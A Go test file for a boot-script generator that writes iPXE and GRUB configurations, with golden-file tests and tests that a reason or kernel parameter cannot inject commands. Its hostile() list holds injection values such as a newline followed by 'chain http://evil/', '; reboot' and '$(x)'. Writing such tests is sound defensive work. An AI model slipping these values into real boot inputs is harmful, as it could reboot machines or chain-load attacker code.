package script

import (
	"flag"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"regain.example/agent/api/cmdline"
	"regain.example/boot"
)

var update = flag.Bool("update", false, "write the golden files anew")

func server() Server { return Server{HTTP: netip.MustParseAddrPort("10.77.0.1:80")} }

func agentLine() string {
	a := Agent{Controller: "https://10.77.0.1:8443", Pin: "c1Fq_-", Extra: []string{"console=ttyS0,115200n8", "quiet"}}
	return a.Cmdline(boot.Client{MAC: net.HardwareAddr{0x52, 0x54, 0, 0, 0, 7}}, "dG9rZW4.-_=")
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	file := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("%s: got\n%s\nwant\n%s", name, got, want)
	}
}

func TestGolden(t *testing.T) {
	golden(t, "entry.ipxe", server().Entry())
	golden(t, "entry-8080.ipxe", Server{HTTP: netip.MustParseAddrPort("10.77.0.1:8080")}.Entry())
	for _, test := range []struct {
		name string
		d    boot.Decision
	}{
		{"agent", boot.Decision{Action: boot.ActionAgent, Reason: "machine 7 waits for its approval"}},
		{"local", boot.Decision{Action: boot.ActionLocalDisk, Reason: "machine 7 is done"}},
		{"none", boot.Decision{Reason: "two machines have this identity, see the page"}},
	} {
		for name, arch := range map[string]boot.Arch{"bios": boot.ArchBIOS, "uefi": boot.ArchEFI64} {
			text, err := server().IPXE(test.d, arch, agentLine())
			if err != nil {
				t.Fatal(err)
			}
			golden(t, test.name+"-"+name+".ipxe", text)
		}
		for name, make := range configs() {
			text, err := make(test.d, agentLine())
			if err != nil {
				t.Fatal(err)
			}
			golden(t, test.name+name, text)
		}
	}
}

// configs are GRUB's configurations, by how their golden files' names end.
func configs() map[string]func(boot.Decision, string) (string, error) {
	return map[string]func(boot.Decision, string) (string, error){
		".grub.cfg": server().GRUB, "-again.grub.cfg": server().GRUBOnce, "-image.grub.cfg": Image,
	}
}

func TestCmdlineComesBack(t *testing.T) {
	p, err := cmdline.Parse("BOOT_IMAGE=vmlinuz " + agentLine())
	if err != nil || p.Token != "dG9rZW4.-_=" || p.MAC != "52:54:00:00:00:07" || p.Pin != "c1Fq_-" {
		t.Errorf("got %+v, %v", p, err)
	}
}

// hostile is what an SMBIOS string or a reason may hold.
func hostile() []string {
	return []string{
		"\nchain http://evil/", "\r\nreboot", "x || reboot", "x && reboot", "x; reboot", "${netX/mac}", "$(x)", "`x`",
		`"; reboot; echo "`, `'`, `\`, "# x", "a\x00b", "é\u202e", strings.Repeat("A", 100000), "\x1b[2J", "} else { reboot",
	}
}

func TestReasonCannotInject(t *testing.T) {
	for _, action := range []boot.Action{boot.ActionNone, boot.ActionAgent, boot.ActionLocalDisk} {
		plain := boot.Decision{Action: action, Reason: "x"}
		for _, reason := range hostile() {
			d := boot.Decision{Action: action, Reason: reason}
			for _, arch := range []boot.Arch{boot.ArchBIOS, boot.ArchEFI64} {
				got, err := server().IPXE(d, arch, agentLine())
				want, _ := server().IPXE(plain, arch, agentLine())
				sameButEcho(t, got, want, err)
			}
			for _, make := range configs() {
				got, err := make(d, agentLine())
				want, _ := make(plain, agentLine())
				sameButEcho(t, got, want, err)
			}
		}
	}
}

// sameButEcho checks that the reason changed one line only, and that this line
// is still an echo of harmless characters.
func sameButEcho(t *testing.T, got, want string, err error) {
	t.Helper()
	a, b := strings.Split(got, "\n"), strings.Split(want, "\n")
	if err != nil || len(a) != len(b) {
		t.Fatalf("%d lines instead of %d, %v:\n%s", len(a), len(b), err, got)
	}
	for i := range a {
		if a[i] == b[i] {
			continue
		}
		said, isEcho := strings.CutPrefix(strings.ReplaceAll(a[i], `"`, ""), "echo Regain: ")
		if !isEcho || strings.ContainsAny(said, "$;&|`'\\#{}<>\x00\r\x1b") || strings.Count(a[i], `"`) > 2 || len(a[i]) > 400 {
			t.Errorf("line %d: %q", i, a[i])
		}
	}
}

func TestHostileParameterIsAnError(t *testing.T) {
	for _, bad := range hostile() {
		if len(bad) > 1000 {
			continue // long, and harmless
		}
		if text, err := server().IPXE(boot.Decision{Action: boot.ActionAgent}, boot.ArchBIOS, "a=b "+bad); err == nil {
			t.Errorf("%q made the script\n%s", bad, text)
		}
		for _, make := range configs() {
			if text, err := make(boot.Decision{Action: boot.ActionAgent}, "a=b "+bad); err == nil {
				t.Errorf("%q made the configuration\n%s", bad, text)
			}
		}
		if err := (Agent{Controller: "https://10.77.0.1", Pin: "x", Extra: []string{bad}}).Check(); err == nil {
			t.Errorf("%q passed the check", bad)
		}
	}
}
